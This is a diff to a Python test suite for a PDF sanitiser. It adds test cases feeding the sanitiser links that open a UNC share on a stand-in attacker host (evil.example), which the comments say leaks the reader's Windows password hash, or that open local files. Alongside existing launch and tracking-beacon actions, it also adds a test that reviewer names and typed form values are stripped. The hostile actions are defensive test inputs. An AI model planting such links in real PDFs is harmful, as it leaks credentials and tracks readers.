@@ -48,6 +48,16 @@ def going_then(run: PdfObject) -> DictionaryObject:
     return first
 
 
+def a_link_to(run: DictionaryObject) -> Callable[[PdfWriter], None]:
+    """A link on the first page that runs `run` when clicked."""
+    def change(writer: PdfWriter) -> None:
+        writer.add_annotation(0, DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
+                                                   NameObject("/Subtype"): NameObject("/Link"),
+                                                   NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
+                                                   NameObject("/A"): run}))
+    return change
+
+
 def a_link_launching_by_reference(writer: PdfWriter) -> None:
     """A link whose action's kind (`/Launch`) is an object of its own: read as the viewer reads it."""
     launch = action("/Launch", F="calc.exe")
@@ -77,11 +87,15 @@ TRACKER = "https://tracker.example/pixel?doc=report"
     # a beacon: the viewer fetches the address as the document opens, telling a tracker who reads it
     (on_open(action("/URI", URI=TRACKER)), "act on its own"),
     # a file on another computer: Windows hands it the reader's password hash to open it
-    (on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "act on its own"),
+    (on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer or network"),
     (on_page_open(action("/URI", URI=TRACKER)), "act on its own"),
     (on_open(going_then(action("/Named", N="/Print"))), "act on its own"),
     (on_page_open(going_then(ArrayObject([going_then(action("/GoTo")), action("/Sound")]))), "act on its own"),
     (a_link_launching_by_reference, "start a program"),
+    # clicked, it does the same: a link to a file on another computer, or on the reader's own
+    (a_link_to(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer or network"),
+    (a_link_to(action("/URI", URI="file:///C:/Users/olena/report.pdf")), "a file on the reader's computer or network"),
+    (a_link_to(action("/URI", URI="\\\\evil.example\\share")), "a file on the reader's computer or network"),
     (a_photo_compressed_after, "filters are in the wrong order"),
 ])
 def test_an_active_or_locked_pdf_is_refused(tmp_path: Path, change, expected: str) -> None:
@@ -254,3 +268,26 @@ def test_a_photo_keeps_nothing_between_its_scans_or_after_its_end() -> None:
     with Image.open(io.BytesIO(clean)) as image:
         image.load()
         assert image.getpixel((50, 150))[0] > 150 and image.getpixel((350, 150))[2] > 150  # the same picture
+
+
+def test_a_links_author_and_comment_and_what_was_typed_into_a_field_are_not_published(tmp_path: Path) -> None:
+    """Links and form fields are kept: their reviewer's name and comment (`/T`, `/Contents`, read out as the link's
+    description) and a field's typed value are not."""
+    link = a_link_to(action("/URI", URI="https://example.org/report"))
+
+    def change(writer: PdfWriter) -> None:
+        link(writer)
+        annotation = writer.pages[0]["/Annots"][-1].get_object()
+        annotation[NameObject("/T")] = TextStringObject("Ivan Petrenko")
+        annotation[NameObject("/Contents")] = TextStringObject("remove the address 5 Shevchenka st")
+        writer.add_annotation(0, DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
+            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("child"),
+            NameObject("/V"): TextStringObject("Ivanko Petrenko, 2019"), NameObject("/TU"): TextStringObject("Petrenko"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (20, 20, 90, 40)])}))
+
+    clean = stripped(write_pdf(tmp_path / "report.pdf", change=change))
+    assert b"Petrenko" not in clean and b"Shevchenka" not in clean
+    kept = [annotation.get_object() for annotation in PdfReader(io.BytesIO(clean)).pages[0]["/Annots"]]
+    assert [annotation["/Subtype"] for annotation in kept] == ["/Link", "/Widget"]
+    assert kept[0]["/A"]["/URI"] == "https://example.org/report"
